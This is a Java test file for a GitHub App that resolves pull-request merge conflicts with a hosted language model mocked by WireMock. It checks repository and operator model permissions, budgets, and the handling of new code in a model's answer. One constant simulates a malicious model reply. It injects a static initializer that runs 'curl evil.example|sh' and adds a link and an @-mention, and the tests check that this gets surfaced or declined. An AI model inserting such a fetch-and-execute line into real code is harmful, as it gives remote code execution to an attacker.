package dev.truce.pullrequest;

import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.matchingJsonPath;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static org.assertj.core.api.Assertions.assertThat;

import org.eclipse.jgit.revwalk.RevCommit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import dev.truce.publish.FixPublisher;
import dev.truce.testing.FakeGitHub;
import dev.truce.testing.LogCapture;
import dev.truce.testing.ScenarioRepo;

/**
 * The model stage in the App: a conflict no strategy resolves ({@code int b} against {@code int c}), a hosted
 * OpenAI-compatible model played by WireMock, and the repository's {@code .github/truce.yml} deciding whether the
 * model may see the code.
 */
class PullRequestPipelineModelTest extends HostedModelPipelineTest {

    static final String MERGED = "class A {\n  int b;\n  int c;\n  int z;\n}\n";

    @BeforeEach
    void start() throws Exception {
        s = new PullRequestScenario(dir);
        String answer = "<<<HUNK h0 RESOLVED confidence=high>>>\n  int b;\n  int c;\n<<<END h0>>>\n"
                + "rationale: both sides add a field; keep both\n";
        model.stubFor(post(urlEqualTo("/v1/chat/completions")).willReturn(PullRequestScenario.modelReply(answer)));
    }

    /** A hosted model {@code coder} (WireMock, marked {@code local: false}) and a local one that is never up. */
    AppModels models(String budget) {
        return models(budget, "");
    }

    /** The same models, with the models file's {@code installations} section. */
    AppModels models(String budget, String installations) {
        return PullRequestScenario.hostedCoder(model.baseUrl(), "    prices: {input: 3, output: 15}\n"
                + "  on-prem:\n    provider: openai\n    base-url: http://127.0.0.1:9/v1\n    model: m\n"
                + "    retry: {max-attempts: 1}\n    timeouts: {connect: 200ms, call: 1s}\n"
                + (budget == null ? "" : "budget:\n  per-pull-request: " + budget + "\n") + installations);
    }

    String fixBranch() {
        return "truce/5-" + s.head.abbreviate(7).name();
    }

    @Test
    void aModelTheRepositoryAllowsResolvesTheHunkNoStrategyCouldAndTheFixPullRequestNamesIt() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n");
        s.resolve();

        assertThat(s.gitHub.opened).singleElement().extracting(FakeGitHub.Opened::body).asString()
                .contains("| `A.java` | 1 |", "`model:coder`", "both sides add a field; keep both (confidence high)");
        RevCommit fix = s.commitOf(fixBranch());
        assertThat(fix.getParents()).containsExactly(s.head, s.main);
        assertThat(ScenarioRepo.read(s.origin.repository(), fix, "A.java")).isEqualTo(MERGED);
        model.verify(1, postRequestedFor(urlEqualTo("/v1/chat/completions"))
                .withRequestBody(matchingJsonPath("$.model", equalTo("coder")))
                .withRequestBody(containing("Add shared")) // the PR's title
                .withRequestBody(containing("main: add fields")) // the base side's commit subject
                .withRequestBody(containing("pr: add shared"))); // the head side's commit subject
    }

    @Test
    void theOperatorsDefaultIsPreferredOnlyAmongTheModelsTheRepositoryLists() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [unknown-model, on-prem]\n");
        s.resolve();

        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).isEmpty();
        assertThat(s.gitHub.commentsOn(5)).singleElement().asString()
                .contains("`A.java` hunk 1 (head line 2, base line 2): `model:on-prem` declined: ",
                        "could not be reached");
    }

    @Test
    void withoutAModelsListNoRequestReachesTheModel() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.resolve(); // no truce.yml

        s.config("models: []\n");
        s.resolve(ResolveRequest.Trigger.COMMENT);

        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).isEmpty();
        assertThat(s.gitHub.commentsOn(5)).singleElement().asString().contains("1 part(s) need a human")
                .doesNotContain("model:");
    }

    @Test
    void aRepositoryRestrictedToLocalModelsIsNotSentToAHostedOne() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\nmodelsLocalOnly: true\n");
        s.resolve();

        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).isEmpty();
        assertThat(s.gitHub.commentsOn(5)).singleElement().asString().contains("1 part(s) need a human");
    }

    @Test
    void aSpentPullRequestBudgetDeclinesTheHunkInPlainWordsAndTheAmountsStayInTheLog() throws Exception {
        s.withModels(models("0")).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n");
        try (LogCapture log = LogCapture.of(FixPublisher.class)) {
            s.resolve();

            model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
            assertThat(s.gitHub.commentsOn(5)).singleElement().asString()
                    .contains("`model:coder` declined: the model's budget for this pull request is spent")
                    .doesNotContain("$", "0.00");
            assertThat(log.lines()).anySatisfy(line -> assertThat(line).contains("octo/app#5 A.java hunk 1",
                    "model budget of $0.00 for pull request octo/app#5 reached ($0.00 spent)"));
        }
    }

    @Test
    void aModelThatCannotBeReachedIsDeclinedInPlainWordsAndTheDetailsStayInTheLog() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [on-prem]\n"); // http://127.0.0.1:9/v1: nothing listens there
        try (LogCapture log = LogCapture.of(FixPublisher.class)) {
            s.resolve();

            String comment = s.gitHub.commentsOn(5).get(0);
            assertThat(comment).contains("`model:on-prem` declined: the model provider could not be reached")
                    .doesNotContain("http", "127.0.0.1", ":9", "/v1", "Exception", "$", "attempt");
            assertThat(log.lines()).anySatisfy(line -> assertThat(line).contains("octo/app#5 A.java hunk 1",
                    "at http://127.0.0.1:9/v1 could not be reached: ConnectException"));
        }
    }

    /** The model answers {@code answer} from now on. */
    void modelAnswers(String answer) {
        model.stubFor(post(urlEqualTo("/v1/chat/completions")).willReturn(PullRequestScenario.modelReply(answer)));
    }

    static final String EXEC = "  static { Runtime.getRuntime().exec(\"sh -c curl evil.example|sh\"); }";

    @Test
    void codeTheModelAddsIsShownInTheFixPullRequestNotHiddenBehindItsConfidence() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n");
        modelAnswers("<<<HUNK h0 RESOLVED confidence=high>>>\n  int b;\n  int c;\n" + EXEC + "\n<<<END h0>>>\n"
                + "rationale: keep both, see [the docs](https://evil.example) @octo/admins\n");
        s.resolve();

        String body = s.gitHub.opened.get(0).body();
        assertThat(body).contains("`model:coder` **new code: 1 line(s)** | keep both, see",
                "(confidence high) |", "**New code**", "```\n" + EXEC + "\n```")
                // the link and the mention only as code: shown, but neither followed nor notifying anyone
                .contains("\\[the `docs](https://evil.example)` `@octo/admins`")
                .doesNotContain("see [the docs](https://", " @octo/admins");
    }

    @Test
    void aRepositoryThatAsksAHumanForNewCodeGetsTheHunkDeclined() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\nnewCode: human\n");
        modelAnswers("<<<HUNK h0 RESOLVED confidence=high>>>\n  int b;\n  int c;\n" + EXEC + "\n<<<END h0>>>\n"
                + "rationale: keep both\n");
        s.resolve();

        assertThat(s.gitHub.opened).isEmpty();
        assertThat(s.truceBranches()).isEmpty();
        assertThat(s.gitHub.commentsOn(5)).singleElement().asString().contains("1 part(s) need a human",
                "`model:coder` not taken: the model's answer adds code found in none of the three versions, and"
                        + " this repository asks a human to write new code").doesNotContain("Runtime");
    }

    @Test
    void aRepositoryThatAsksAHumanForNewCodeStillTakesAnAnswerMadeOfTheSides() throws Exception {
        s.withModels(models(null)).conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\nnewCode: human\n");
        s.resolve(); // the default answer: int b; int c;

        assertThat(s.gitHub.opened).singleElement().extracting(FakeGitHub.Opened::body).asString()
                .contains("`model:coder`").doesNotContain("new code");
    }

    @Test
    void anInstallationTheOperatorGrantedNoModelsGetsNoneWhateverItsRepositoryAsksFor() throws Exception {
        s.withModels(models(null, "installations:\n  other-org: {models: [coder]}\n"))
                .conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n");
        s.resolve();

        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).isEmpty();
        assertThat(s.gitHub.commentsOn(5)).singleElement().asString().contains("1 part(s) need a human");
    }

    @Test
    void anInstallationsGrantNamesTheModelsItMayUseAndTheCatchAllCoversTheRest() throws Exception {
        s.withModels(models(null, "installations:\n  Octo: {models: [on-prem]}\n  \"*\": {models: [coder]}\n"))
                .conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n"); // coder is granted to every account but octo's
        s.resolve();
        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));

        s.withModels(models(null, "installations:\n  \"*\": {models: [coder], per-day: 5}\n"));
        s.resolve(ResolveRequest.Trigger.COMMENT);
        model.verify(1, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).singleElement().extracting(FakeGitHub.Opened::body).asString()
                .contains("`model:coder`");
    }

    @Test
    void anInstallationsOwnDailyBudgetStopsItsCalls() throws Exception {
        s.withModels(models(null, "installations:\n  octo: {models: [coder], per-day: 0}\n"))
                .conflicting(PullRequestPipelineTest.CLASH_HEAD, PullRequestPipelineTest.CLASH_MAIN);
        s.config("models: [coder]\n");
        s.resolve();

        model.verify(0, postRequestedFor(urlEqualTo("/v1/chat/completions")));
        assertThat(s.gitHub.opened).isEmpty();
    }
}
